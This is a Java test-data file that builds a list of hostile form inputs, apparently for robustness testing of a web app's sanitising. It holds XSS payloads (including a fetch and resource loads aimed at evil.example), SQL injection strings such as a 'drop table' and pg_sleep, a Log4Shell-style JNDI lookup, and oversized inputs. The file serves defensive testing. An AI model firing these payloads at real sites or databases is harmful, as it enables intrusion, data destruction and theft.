package org.commonplace.chrome;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that break what is not well made; each is something that a person could send through a
 * form.
 */
public final class HostileTexts {
    private HostileTexts() {}

    public static List<String> all() {
        List<String> all = new ArrayList<>();
        String[] scripts = {
            "alert(1)",
            "window.hacked=1",
            "fetch('https://evil.example')",
            "document.body.innerHTML=1",
            "eval('window.hacked=2')"
        };
        for (String script : scripts) {
            all.add("<script>" + script + "</script>");
            all.add("<ScRiPt>" + script + "</sCrIpT>");
            all.add("<img src=x onerror=\"" + script + "\">");
            all.add("<svg onload=" + script + ">");
            all.add("<svg><script>" + script + "</script></svg>");
            all.add("<body onload=" + script + ">");
            all.add("<iframe src=\"javascript:" + script + "\"></iframe>");
            all.add("<a href=\"javascript:" + script + "\">x</a>");
            all.add("<a href=\"JaVaScRiPt:" + script + "\">x</a>");
            all.add("<a href=\" &#106;avascript:" + script + "\">x</a>");
            all.add("[x](javascript:" + script + ")");
            all.add("[x](JAVASCRIPT:" + script + ")");
            all.add("[x](data:text/html,<script>" + script + "</script>)");
            all.add("[x](vbscript:" + script + ")");
            all.add("![x](javascript:" + script + ")");
            all.add("![x](https://evil.example/\"onerror=\"" + script + ")");
            all.add("<https://x.example/\"onmouseover=\"" + script + ">");
            all.add("[x]: javascript:" + script + "\n\n[x]");
            all.add("<details open ontoggle=" + script + ">");
            all.add("<math><mtext><table><mglyph><style><img src=x onerror=" + script + ">");
            all.add("<noscript><p title=\"</noscript><img src=x onerror=" + script + ">\">");
            all.add("</textarea><script>" + script + "</script>");
            all.add("</title><script>" + script + "</script>");
            all.add("--></script><script>" + script + "</script>");
            all.add("\"><script>" + script + "</script>");
            all.add("' onfocus='" + script + "' autofocus='");
            all.add("`<script>" + script + "</script>`");
            all.add("```\n</code></pre><script>" + script + "</script>\n```");
            all.add("<style>*{background:url(https://evil.example)}</style>");
            all.add("<link rel=stylesheet href=https://evil.example/x.css>");
            all.add("<meta http-equiv=refresh content=\"0;url=https://evil.example\">");
            all.add("<base href=\"https://evil.example/\">");
            all.add("<form action=\"https://evil.example\"><input name=x></form>");
            all.add(
                    "<object data=\"https://evil.example\"></object><embed src=\"https://evil.example\">");
        }
        for (String sql :
                List.of(
                        "'; drop table people.member; --",
                        "' or '1'='1",
                        "1; select pg_sleep(10)",
                        ":name :id ::text",
                        "$1 $$ $body$",
                        "?, ?, ?",
                        "%",
                        "_",
                        "\\",
                        "100%_\\%")) all.add(sql + " and a question");
        for (String template :
                List.of(
                        "${7*7}",
                        "#{7*7}",
                        "{{7*7}}",
                        "<%= 7*7 %>",
                        "@if(true)x@endif",
                        "!{var x = 1;}",
                        "{0} {1,choice,0#x}",
                        "${jndi:ldap://evil.example/a}",
                        "%s %d %n",
                        "\u0001 control")) all.add(template + " is a template");
        for (String sign :
                List.of(
                        "\u202Eesrever",
                        "\u2066isolate\u2069",
                        "\u200Bzero\u200Bwidth\u200B",
                        "\uFEFFmark",
                        "\u200Fright",
                        "na\u0308ive",
                        "Z\u0351\u0352\u0353algo",
                        "\uD83D\uDC69\u200D\uD83D\uDCBB",
                        "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
                        "\u0645\u0643\u062A\u0628\u0629",
                        "\u05E1\u05E4\u05E8\u05D9\u05D9\u05D4",
                        "\u56FE\u4E66\u9986",
                        "\uD835\uDD4F\uD835\uDD50",
                        "\u00A0\u2003spaces\u3000",
                        "\u2028line\u2029paragraph",
                        "ﬁ ligature",
                        "İı dotless",
                        "ẞß",
                        "a\u0000b",
                        "\t\ttabs")) all.add(sign + " in a library");
        for (String mark :
                List.of(
                        "# heading",
                        "###### six",
                        "> > > > deep",
                        "- - - - list",
                        "1. 1. 1.",
                        "***",
                        "___",
                        "    code",
                        "| a | b |\n|---|",
                        "| a |\n|---|\n| b | c | d |",
                        "[a][b][c]",
                        "[[[[[",
                        "]]]]]",
                        "((((",
                        "![](",
                        "[](",
                        "<>",
                        "<!-- comment -->",
                        "<!-- open",
                        "<![CDATA[x]]>",
                        "<?php echo 1 ?>",
                        "&amp;&lt;&#0;&#x110000;&notanentity;",
                        "\\*\\_\\`",
                        "**bold *mixed** em*",
                        "~~strike~~",
                        "`` ` ``",
                        "* a\n\n  b\n* c",
                        "a  \nb\\\nc",
                        "http://x.example/?a=b&c=d",
                        "mailto:a@b.c",
                        "www.x.example",
                        "<b>bold</b><i>",
                        "</div></div></main>")) all.add(mark + "\n\nand words to make a question");
        all.add("nest ".repeat(3) + "> ".repeat(2_000) + "deep");
        all.add("[".repeat(5_000) + "a" + "]".repeat(5_000));
        all.add("*a ".repeat(5_000));
        all.add("- ".repeat(500) + "x");
        all.add("word" + "w".repeat(1_000_000));
        return all;
    }
}
